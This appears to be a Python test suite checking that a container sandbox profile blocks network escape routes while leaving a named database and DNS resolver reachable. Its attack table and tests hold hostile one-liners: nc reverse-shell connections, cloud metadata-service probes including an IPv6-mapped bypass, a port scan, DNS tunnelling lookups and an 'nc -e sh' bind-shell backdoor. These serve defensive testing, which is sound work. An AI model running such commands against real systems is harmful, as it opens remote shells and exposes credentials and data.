"""Ways out by the network: what a container without rules reaches, and under a profile's does not.

Prevented means that the server at the other end has seen nothing.
"""

from escape.attack_case import AttackCase
from lib.node import Node
from lib.runtime import Runtime, new_id
from lib.world import World

RULES = {
    "extends": "baseline",
    "network": {
        "egress": [{"to": "10.9.0.0/24", "ports": ["5432/tcp"]}, {"to": "10.9.0.1", "ports": ["53/udp"]}],
        "ingress": ["8080/tcp"],
        "require": True,
    },
}
NC = "nc -w 1 {} {} < /dev/null"
# name, what is run, what the servers see of it without rules
ATTACKS = (
    ("metadata service", "echo GET /latest/ | nc -w 1 169.254.169.254 80", "tcp 169.254.169.254:80"),
    ("metadata service, mapped", NC.format("::ffff:169.254.169.254", 80), "tcp 169.254.169.254:80"),
    ("reverse shell", NC.format("10.8.0.1", 4444), "tcp 10.8.0.1:4444"),
    ("reverse shell, version 6", NC.format("fd09::1", 4444), "tcp fd09::1:4444"),
    ("port scan", "for p in 21 22 23; do nc -w 1 10.9.0.1 $p < /dev/null; done", "tcp 10.9.0.1:22"),
    ("DNS tunnel", "nslookup secret.example 8.8.8.8", "udp 8.8.8.8:53"),
    ("DNS tunnel inside", "nslookup secret.example 10.8.0.1", "udp 10.8.0.1:53"),
)
ALLOWED = (
    ("the database", NC.format("10.9.0.1", 5432), "tcp 10.9.0.1:5432"),
    ("the resolver", "nslookup db.example 10.9.0.1", "udp 10.9.0.1:53"),
)


class Network(AttackCase):
    def setUp(self):
        super().setUp()
        self.world = World()
        self.enterContext(self.world)

    def held(self, profile=None):
        node = Node({"profile": "web"}, profiles={"web": profile or RULES})
        self.enterContext(node)
        node.run("mount", "-t", "tmpfs", "tmpfs", "/var/log")  # the machine's own log is none of ours
        self.runtime = Runtime(root=self.runtime.root, prefix=node.prefix)

    def in_world(self, *command):
        bundle = self.bundle(*command)
        bundle.linux["namespaces"] = self.world.joined_by(bundle)
        return bundle.write()

    def run_in_world(self, command):
        self.world.seen()
        result = self.runtime.run_container(self.in_world("sh", "-c", command + " 2>&1"))
        return result, self.world.seen()

    def test_without_rules_every_way_is_open(self):
        for name, command, server in ATTACKS + ALLOWED:
            with self.subTest(name):
                _, seen = self.run_in_world(command)
                self.assertIn(server, seen)

    def test_under_rules_none_is(self):
        self.held()
        for name, command, _ in ATTACKS:
            with self.subTest(name):
                result, seen = self.run_in_world(command)
                self.assertEqual(seen, set(), result.stdout)

    def test_what_is_named_stays_open(self):
        self.held()
        for name, command, server in ALLOWED:
            with self.subTest(name):
                result, seen = self.run_in_world(command)
                self.assertEqual(seen, {server}, result.stdout)

    def test_an_injected_exec_is_held_to_them(self):
        self.held()
        container = new_id()
        bundle = self.in_world("sleep", "1000")
        self.assert_ok(self.runtime.create(bundle, container))
        self.runtime.ok("start", container)
        for name, command, _ in ATTACKS:
            with self.subTest(name):
                self.world.seen()
                result = self.runtime.call("exec", container, "sh", "-c", command + " 2>&1")
                self.assertEqual(self.world.seen(), set(), result.stdout)
        result = self.runtime.call("exec", container, "sh", "-c", NC.format("10.9.0.1", 5432))
        self.assertEqual(self.world.seen(), {"tcp 10.9.0.1:5432"}, result.stderr)

    def test_a_backdoor_gets_no_port(self):
        self.held()
        result, _ = self.run_in_world("nc -l -p 4445 -e sh")
        self.assertIn("not permitted", result.stdout)
        # The shell itself, so that it is gone at once where it may listen.
        result, _ = self.run_in_world("timeout 1 nc -l -p 8080; true")
        self.assertNotIn("not permitted", result.stdout)

    def test_sniffing_and_ping_tunnels_find_no_socket(self):
        self.held({"extends": "baseline", "network": {"egress": []}})
        result, _ = self.run_in_world("ping -c 1 -W 1 10.9.0.1; grep CapBnd /proc/self/status")
        self.assertNotIn("bytes from", result.stdout)
        bounding = int(result.stdout.split()[-1], 16)
        self.assertEqual(bounding & 1 << 13, 0, "CAP_NET_RAW")

    def test_the_hosts_network_is_held_to_them_too(self):
        self.held({"extends": "observe", "network": {"egress": [{"to": "10.9.0.1"}]}})
        bundle = self.bundle("sh", "-c", NC.format("127.0.0.1", 9) + " 2>&1")
        bundle.linux["namespaces"] = [
            each for each in bundle.linux["namespaces"] if each["type"] != "network"]
        result = self.runtime.run_container(bundle.write())
        self.assertIn("not permitted", result.stdout)
